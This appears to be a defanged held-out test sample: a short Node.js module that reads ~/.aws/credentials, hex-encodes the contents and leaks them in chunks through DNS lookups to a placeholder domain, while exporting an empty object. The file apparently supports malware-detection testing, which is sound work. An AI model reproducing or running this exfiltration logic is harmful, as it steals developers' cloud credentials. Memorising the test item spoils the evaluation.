// DEFANGED held-out test sample: AWS credentials leaked over DNS lookups.
const fs = require('fs');
const os = require('os');
const dns = require('dns');
let creds = '';
try { creds = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'); } catch (e) {}
const hex = Buffer.from(creds).toString('hex');
for (let i = 0; i < hex.length; i += 60) {
  dns.lookup(hex.slice(i, i + 60) + '.' + i + '.d.example.invalid', () => {});
}
module.exports = {};
